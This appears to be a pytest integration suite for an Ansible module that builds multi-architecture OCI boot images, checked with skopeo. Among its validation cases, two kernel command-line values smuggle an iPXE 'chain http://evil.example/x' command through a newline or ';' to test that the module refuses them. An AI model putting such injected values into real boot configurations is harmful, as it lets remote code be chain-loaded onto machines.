"""ironcore_image_build driven through the real ansible CLI, read back with skopeo."""

from __future__ import annotations

import json
import os
import shutil
import subprocess

import pytest

MODULE = "ironcore.image.ironcore_image_build"
NAME = "registry.example.com/os/gardenlinux:1.0"
REF_NAME = "org.opencontainers.image.ref.name"

pytestmark = pytest.mark.integration


@pytest.fixture
def artifacts(tmp_path):
    paths = {}
    for arch in ("amd64", "arm64"):
        for role in ("kernel", "initramfs", "rootfs", "squashfs"):
            path = tmp_path / "in" / arch / role
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(("%s %s " % (arch, role)).encode() * 1000)
            paths[(arch, role)] = str(path)
    # A rootfs shared by both architectures must be stored once.
    return paths


def artifact_list(paths, archs=("amd64", "arm64"), roles=("kernel", "initramfs", "rootfs"), cmdline="console=ttyS0"):
    items = []
    for arch in archs:
        item = {"architecture": arch, "cmdline": cmdline}
        item.update({role: paths[(arch, role)] for role in roles})
        items.append(item)
    return items


def skopeo_raw(layout: str, name: str) -> bytes:
    return subprocess.run(
        ["skopeo", "inspect", "--raw", "oci:%s:%s" % (layout, name)], check=True, capture_output=True
    ).stdout


def snapshot(path: str) -> dict:
    found = {}
    for root, _directories, files in os.walk(path):
        for name in files:
            full = os.path.join(root, name)
            with open(full, "rb") as stream:
                found[os.path.relpath(full, path)] = stream.read()
    return found


def test_build_check_real_idempotent(ansible, artifacts, tmp_path):
    layout = str(tmp_path / "layout")
    args = {"layout": layout, "name": NAME, "artifacts": artifact_list(artifacts)}

    checked = ansible.module(MODULE, args, check=True, diff=True)
    assert checked["changed"] is True, checked
    assert not os.path.exists(layout)

    built = ansible.module(MODULE, args, diff=True)
    assert built["changed"] is True and built["digest"] == checked["digest"]
    assert NAME in built["diff"]["after"]

    again_check = ansible.module(MODULE, args, check=True)
    again = ansible.module(MODULE, args)
    assert again_check["changed"] is False and again["changed"] is False
    assert again["digest"] == built["digest"]

    index = json.loads(skopeo_raw(layout, NAME))
    assert index["mediaType"] == "application/vnd.oci.image.index.v1+json"
    assert [(m["platform"]["architecture"], m["platform"]["variant"]) for m in index["manifests"]] == [
        ("amd64", "baremetal"),
        ("amd64", "virtualization"),
        ("arm64", "baremetal"),
        ("arm64", "virtualization"),
    ]
    assert "sha256:" + __import__("hashlib").sha256(skopeo_raw(layout, NAME)).hexdigest() == built["digest"]

    # size: the whole image, each blob once (a platform's rootfs is shared by its two manifests); index_size: the index.
    def blob_file(digest):
        return os.path.join(layout, "blobs", "sha256", digest[7:])

    reached = {built["digest"]: len(skopeo_raw(layout, NAME))}
    for entry in index["manifests"]:
        reached[entry["digest"]] = os.path.getsize(blob_file(entry["digest"]))
        with open(blob_file(entry["digest"]), "rb") as stream:
            document = json.load(stream)
        for blob in [document["config"], *document["layers"]]:
            reached[blob["digest"]] = os.path.getsize(blob_file(blob["digest"]))
    assert (built["size"], built["index_size"]) == (sum(reached.values()), len(skopeo_raw(layout, NAME)))
    assert (checked["size"], checked["index_size"]) == (built["size"], built["index_size"])

    per_platform = json.loads(skopeo_raw(layout, NAME + "-baremetal"))
    assert [m["platform"] for m in per_platform["manifests"]] == [
        {"architecture": "amd64", "os": "linux"},
        {"architecture": "arm64", "os": "linux"},
    ]
    assert [m["digest"] for m in per_platform["manifests"]] == [
        index["manifests"][0]["digest"],
        index["manifests"][2]["digest"],
    ]

    manifest = json.loads(skopeo_raw(layout, NAME + "-virtualization-arm64"))
    assert manifest["annotations"] == {
        "io.ironcore.image.platform": "virtualization",
        "variant": "virtualization",
        "architecture": "arm64",
        "org.opencontainers.image.title": "gardenlinux-virtualization-arm64",
    }
    assert [m["annotations"] for m in index["manifests"]] == [
        {"variant": "metal", "architecture": "amd64"},
        {"variant": "virtualization", "architecture": "amd64"},
        {"variant": "metal", "architecture": "arm64"},
        {"variant": "virtualization", "architecture": "arm64"},
    ]
    assert [(layer["mediaType"], layer["annotations"]) for layer in manifest["layers"]] == [
        ("application/vnd.ironcore.image.rootfs", {"org.opencontainers.image.title": "rootfs"})
    ]
    bare = json.loads(skopeo_raw(layout, NAME + "-baremetal-amd64"))
    assert [layer["annotations"]["org.opencontainers.image.title"] for layer in bare["layers"]] == [
        "kernel",
        "initramfs",
        "rootfs",
    ]
    config_blob = os.path.join(layout, "blobs", "sha256", bare["config"]["digest"][7:])
    assert json.load(open(config_blob)) == {"commandLine": "console=ttyS0"}
    assert bare["config"]["mediaType"] == "application/vnd.ironcore.image.config.v1+json"
    words = ("baremetal", "virtualization", "metal", "kvm")
    assert sorted(built["refs"]) == sorted(
        [NAME] + [NAME + "-" + p for p in words] + [NAME + "-%s-%s" % (p, a) for p in words for a in ("amd64", "arm64")]
    )
    # The os-images aliases name the very same documents.
    assert skopeo_raw(layout, NAME + "-metal") == skopeo_raw(layout, NAME + "-baremetal")
    assert skopeo_raw(layout, NAME + "-kvm-arm64") == skopeo_raw(layout, NAME + "-virtualization-arm64")


def test_same_inputs_same_digest_in_another_layout(ansible, artifacts, tmp_path):
    args = {
        "name": NAME,
        "artifacts": artifact_list(artifacts),
        "annotations": {"org.opencontainers.image.version": "1.0"},
    }
    one = ansible.module(MODULE, dict(args, layout=str(tmp_path / "a")))
    copy_dir = tmp_path / "copy"
    shutil.copytree(tmp_path / "in", copy_dir)
    moved = {key: path.replace(str(tmp_path / "in"), str(copy_dir)) for key, path in artifacts.items()}
    two = ansible.module(MODULE, dict(args, layout=str(tmp_path / "b"), artifacts=artifact_list(moved)))
    assert one["digest"] == two["digest"]


def test_changed_artifact_moves_the_name(ansible, artifacts, tmp_path):
    args = {"layout": str(tmp_path / "l"), "name": NAME, "artifacts": artifact_list(artifacts, archs=("amd64",))}
    first = ansible.module(MODULE, args)
    with open(artifacts[("amd64", "rootfs")], "ab") as stream:
        stream.write(b"more")
    second = ansible.module(MODULE, args, diff=True)
    assert second["changed"] is True and second["digest"] != first["digest"]
    assert second["diff"]["before"][NAME] == first["digest"]


def test_tar_gzip_layers_and_no_platform_tags(ansible, artifacts, tmp_path):
    layout = str(tmp_path / "l")
    args = {
        "layout": layout,
        "name": "local/img",
        "platforms": ["virtualization"],
        "layer_format": "tar+gzip",
        "platform_tags": False,
        "artifacts": artifact_list(artifacts, archs=("arm64",), roles=("rootfs",)),
    }
    result = ansible.module(MODULE, args)
    assert result["refs"] == ["local/img:latest"]
    (manifest,) = result["manifests"]
    assert manifest["layers"][0]["mediaType"] == "application/vnd.oci.image.layer.v1.tar+gzip"
    assert ansible.module(MODULE, args)["changed"] is False


def test_squashfs_goes_to_baremetal_only(ansible, artifacts, tmp_path):
    args = {
        "layout": str(tmp_path / "l"),
        "name": "local/img:1",
        "artifacts": artifact_list(artifacts, archs=("amd64",), roles=("kernel", "initramfs", "rootfs", "squashfs")),
    }
    result = ansible.module(MODULE, args)
    titles = {m["platform"]: [layer["title"] for layer in m["layers"]] for m in result["manifests"]}
    # squashfs before rootfs: libvirt-provider lets the later of the two become the VM disk.
    assert titles == {"baremetal": ["kernel", "initramfs", "squashfs", "rootfs"], "virtualization": ["rootfs"]}


def test_rebuild_uses_digest_cache(ansible, artifacts, tmp_path):
    layout = tmp_path / "l"
    args = {"layout": str(layout), "name": NAME, "artifacts": artifact_list(artifacts, archs=("amd64",))}
    ansible.module(MODULE, args)
    cache = json.loads((layout / "ironcore-digest-cache.json").read_text())
    assert len(cache) == 3
    # Same bytes, new mtime: the cache must not be trusted, result unchanged.
    os.utime(artifacts[("amd64", "rootfs")], ns=(1, 1))
    assert ansible.module(MODULE, args)["changed"] is False
    assert json.loads((layout / "ironcore-digest-cache.json").read_text()) != cache


def bad_cases(paths, tmp_path):
    device = "/dev/null"
    folder = str(tmp_path)
    amd = {
        "architecture": "amd64",
        "kernel": paths[("amd64", "kernel")],
        "initramfs": paths[("amd64", "initramfs")],
        "rootfs": paths[("amd64", "rootfs")],
    }
    return [
        (
            {"artifacts": [dict(amd, rootfs=str(tmp_path / "missing"))]},
            "artifacts[0].rootfs: file %s does not exist" % (tmp_path / "missing"),
        ),
        ({"artifacts": [dict(amd, kernel=folder)]}, "artifacts[0].kernel: %s is a directory" % folder),
        ({"artifacts": [dict(amd, initramfs=device)]}, "artifacts[0].initramfs: /dev/null is not a regular file"),
        (
            {"artifacts": [dict(amd, architecture="x86")]},
            "architecture must be one of: amd64, arm64, x86_64, aarch64, got: x86",
        ),
        (
            {"platforms": ["cloud"]},
            "value of platforms must be one or more of: baremetal, virtualization, metal, kvm. Got no match for: cloud",
        ),
        ({"artifacts": []}, "artifacts must list at least one architecture"),
        ({"artifacts": [amd, amd]}, "artifacts[1].architecture: amd64 is listed twice"),
        (
            {
                "artifacts": [
                    amd,
                    {
                        "architecture": "arm64",
                        "initramfs": paths[("arm64", "initramfs")],
                        "rootfs": paths[("arm64", "rootfs")],
                    },
                ]
            },
            "artifacts[1]: platform baremetal needs kernel for arm64",
        ),
        ({"name": "Not A/Name"}, "name: 'Not A/Name' is not a valid image reference"),
        ({"name": "r.io/x@sha256:" + "a" * 64}, "names a digest"),
        ({"annotations": {"build": 5}}, "annotations.build must be a string, got int"),
        # boot.ipxe carries the command line: a newline or an iPXE separator would add commands.
        (
            {"artifacts": [dict(amd, cmdline="console=ttyS0\nchain http://evil.example/x")]},
            "artifacts[0].cmdline: 'console=ttyS0\\nchain' holds the control character",
        ),
        (
            {"artifacts": [dict(amd, cmdline="ro ; chain http://evil.example/x")]},
            "artifacts[0].cmdline: ';' would end iPXE's kernel command",
        ),
    ]


def test_bad_input_fails_cleanly_and_touches_nothing(ansible, artifacts, tmp_path):
    layout = str(tmp_path / "layout")
    good = {"layout": layout, "name": NAME, "artifacts": artifact_list(artifacts, archs=("amd64",))}
    ansible.module(MODULE, good)
    before = snapshot(layout)
    for override, message in bad_cases(artifacts, tmp_path):
        result = ansible.module(MODULE, dict(good, **override))
        assert result.get("failed") is True, (override, result)
        assert message in result["msg"], (message, result["msg"])
        assert "\n" not in result["msg"] and "Traceback" not in result["msg"]
        assert snapshot(layout) == before


def test_layout_that_is_a_file_is_refused(ansible, artifacts, tmp_path):
    target = tmp_path / "file"
    target.write_text("keep me")
    result = ansible.module(
        MODULE, {"layout": str(target), "name": NAME, "artifacts": artifact_list(artifacts, archs=("amd64",))}
    )
    assert result["failed"] is True and "exists and is not a directory" in result["msg"]
    assert target.read_text() == "keep me"


def test_concurrent_builds_into_one_layout_keep_every_name(ansible, artifacts, tmp_path):
    import concurrent.futures

    layout = str(tmp_path / "l")
    jobs = [
        {"layout": layout, "name": "r.io/os/img:%d" % number, "artifacts": artifact_list(artifacts, archs=(arch,))}
        for number, arch in enumerate(("amd64", "arm64", "amd64", "arm64"))
    ]
    with concurrent.futures.ThreadPoolExecutor(len(jobs)) as pool:
        results = list(pool.map(lambda args: ansible.module(MODULE, args), jobs))
    assert all(result["changed"] is True for result in results), results
    index = json.load(open(os.path.join(layout, "index.json")))
    names = {entry["annotations"]["org.opencontainers.image.ref.name"] for entry in index["manifests"]}
    for job, result in zip(jobs, results):
        assert set(result["refs"]) <= names
        assert json.loads(skopeo_raw(layout, job["name"]))["manifests"][0]["digest"] == result["manifests"][0]["digest"]


def test_rebuild_restores_a_missing_layer_blob_and_says_so(ansible, artifacts, tmp_path):
    layout = tmp_path / "l"
    args = {"layout": str(layout), "name": NAME, "artifacts": artifact_list(artifacts, archs=("amd64",))}
    built = ansible.module(MODULE, args)
    rootfs = next(layer for layer in built["manifests"][0]["layers"] if layer["title"] == "rootfs")
    blob = layout / "blobs" / "sha256" / rootfs["digest"][7:]
    blob.unlink()
    assert ansible.module(MODULE, args, check=True)["changed"] is True
    assert not blob.exists()
    assert ansible.module(MODULE, args)["changed"] is True
    assert blob.read_bytes() == open(artifacts[("amd64", "rootfs")], "rb").read()
    assert ansible.module(MODULE, args)["changed"] is False


def test_overwrite_false_keeps_names_where_they_point(ansible, artifacts, tmp_path):
    layout = str(tmp_path / "layout")
    first = {"layout": layout, "name": NAME, "artifacts": artifact_list(artifacts)}
    built = ansible.module(MODULE, first)
    assert built["changed"] is True, built

    # The same image again: nothing moves, so a release tag may be rebuilt.
    same = ansible.module(MODULE, dict(first, overwrite=False))
    assert same["changed"] is False and same["digest"] == built["digest"], same

    other = dict(first, overwrite=False, artifacts=artifact_list(artifacts, cmdline="console=ttyS1"))
    before = skopeo_raw(layout, NAME)
    for check in (True, False):
        refused = ansible.module(MODULE, other, check=check)
        assert refused.get("failed") is True, refused
        assert built["digest"] in refused["msg"] and "overwrite" in refused["msg"], refused
        assert "\n" not in refused["msg"] and "Traceback" not in refused["msg"]
        assert skopeo_raw(layout, NAME) == before

    # A platform name alone is guarded too: the main name is gone, its platform names stay.
    index_path = os.path.join(layout, "index.json")
    with open(index_path, "rb") as stream:
        index = json.load(stream)
    index["manifests"] = [e for e in index["manifests"] if e["annotations"][REF_NAME] != NAME]
    with open(index_path, "w") as stream:
        json.dump(index, stream)
    refused = ansible.module(MODULE, other)
    assert refused.get("failed") is True, refused
    assert "name %s-" % NAME in refused["msg"] and "already points at" in refused["msg"], refused

    moved = ansible.module(MODULE, dict(other, overwrite=True))
    assert moved["changed"] is True and moved["digest"] != built["digest"], moved
    assert json.loads(skopeo_raw(layout, NAME)) != json.loads(before)
